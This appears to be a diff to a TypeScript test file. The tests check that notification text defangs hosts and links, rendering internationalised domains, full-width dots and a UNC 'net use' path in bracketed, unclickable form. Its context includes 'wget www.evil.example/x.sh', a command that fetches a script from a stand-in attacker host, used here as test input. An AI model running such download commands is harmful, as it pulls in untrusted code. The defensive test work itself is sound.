@@ -47,6 +47,18 @@ describe('words', () => {
     expect(factsOf(notificationFixture({ who: ['wget www.evil.example/x.sh'] }))[1]!.lines[0]).toBe(
       'wget www[.]evil[.]example/x[.]sh',
     );
+    const links = [
+      ['evil.xn--p1ai', 'evil[.]xn--p1ai'],
+      ['пример.рф/x', 'пример[.]рф/x'],
+      ['例え。テスト', '例え[.]テスト'],
+      ['evil．example', 'evil[.]example'],
+      ['net use \\\\198.51.100.7\\x', 'net use [\\\\]198.51.100.7\\x'],
+      ['C:\\\\Users', 'C:\\\\Users'],
+      ['a\u061cb\u2028c', 'a\\u{61c}b\\u{2028}c'],
+      ['10.0.0.1 a.b 2.5', '10.0.0.1 a.b 2.5'],
+    ] as const;
+    for (const [wrote, shown] of links)
+      expect(factsOf(notificationFixture({ who: [wrote] }))[1]!.lines).toEqual([shown]);
     expect(Buffer.byteLength(fitBytes('ä💀'.repeat(100), 31))).toBeLessThanOrEqual(31);
     expect(fitBytes('ä💀'.repeat(100), 31)).not.toContain('\ufffd');
   });
